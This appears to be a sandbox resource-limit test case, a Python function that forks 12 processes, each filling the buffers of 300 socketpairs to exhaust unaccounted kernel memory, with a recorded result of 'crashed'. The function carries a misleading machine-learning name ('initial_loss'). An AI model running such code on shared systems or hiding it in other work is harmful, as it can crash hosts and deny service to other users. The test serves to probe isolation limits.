"""Fills the buffers of sockets in many processes: memory of the kernel, which no process is charged for.

Afterwards: The descriptors of all its processes are counted together.

verdict: crashed
"""

import os
import socket
import time


def initial_loss(num_classes):
    for _ in range(12):
        if os.fork() == 0:
            kept = [socket.socketpair() for _ in range(300)]
            for one, _ in kept:
                one.setblocking(False)
                try:
                    one.send(b"x" * 1000)
                except OSError:
                    pass
            time.sleep(60)
    time.sleep(60)
